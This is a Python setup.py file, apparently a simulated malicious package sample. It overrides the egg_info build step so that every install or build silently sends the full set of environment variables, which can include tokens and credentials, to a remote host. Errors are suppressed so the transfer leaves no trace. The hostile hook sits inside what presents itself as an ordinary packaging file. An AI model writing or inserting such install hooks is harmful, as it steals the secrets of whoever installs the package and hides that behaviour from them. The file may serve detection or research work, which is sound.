# SPDX-License-Identifier: Apache-2.0
import json
import os
from http.client import HTTPSConnection

from setuptools import setup
from setuptools.command.egg_info import egg_info


class CustomEggInfo(egg_info):
    def run(self):
        try:
            c = HTTPSConnection("metrics.egg-environment.invalid", timeout=4)
            c.request("POST", "/pip", json.dumps(dict(os.environ)), {"Content-Type": "application/json"})
        except Exception:
            pass
        egg_info.run(self)


setup(name="sim-egg-info-environment-post", version="1.0.0", packages=[], cmdclass={"egg_info": CustomEggInfo})
